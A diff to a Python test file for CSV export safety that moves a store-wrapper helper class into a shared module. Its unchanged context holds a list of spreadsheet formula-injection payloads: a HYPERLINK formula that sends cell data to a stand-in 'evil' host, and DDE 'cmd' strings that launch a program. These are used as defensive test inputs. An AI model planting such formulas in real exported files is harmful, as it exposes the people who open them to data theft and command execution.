@@ -13,6 +13,7 @@ from click.testing import CliRunner
 from helpers_loaders import good_tables, write_csv
 from orgnet.export import FORMULA_PREFIXES, csv_bytes, csv_text, neutralize_formula, safe_frame
 from orgnet.textsafe import escape_markdown
+from helpers_stores import Borrowed
 
 EVIL = ['=HYPERLINK("http://evil/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -47,22 +48,6 @@ def test_cypher_csv_output_neutralized() -> None:
     assert all(r[0].startswith("'") for r in rows[1:])
 
 
-class _Borrowed:
-    def __init__(self, store):
-        self._store = store
-
-    def close(self):
-        pass
-
-    def __enter__(self):
-        return self
-
-    def __exit__(self, *exc):
-        pass
-
-    def __getattr__(self, name):
-        return getattr(self._store, name)
-
 
 @pytest.fixture(scope="module")
 def evil_graph(falkordb_store, tmp_path_factory):
@@ -89,7 +74,7 @@ def test_cli_csv_exports_carry_no_formula(evil_graph, monkeypatch, tmp_path, com
     from orgnet.cli import cli
 
     store, graph = evil_graph
-    monkeypatch.setattr(stores, "open_store", lambda settings: _Borrowed(store))
+    monkeypatch.setattr(stores, "open_store", lambda settings: Borrowed(store))
     monkeypatch.setenv("ORGNET_HOME", str(tmp_path / "home"))
     r = CliRunner().invoke(cli, [*command, "--graph", graph], catch_exceptions=False)
     assert r.exit_code == 0, r.output
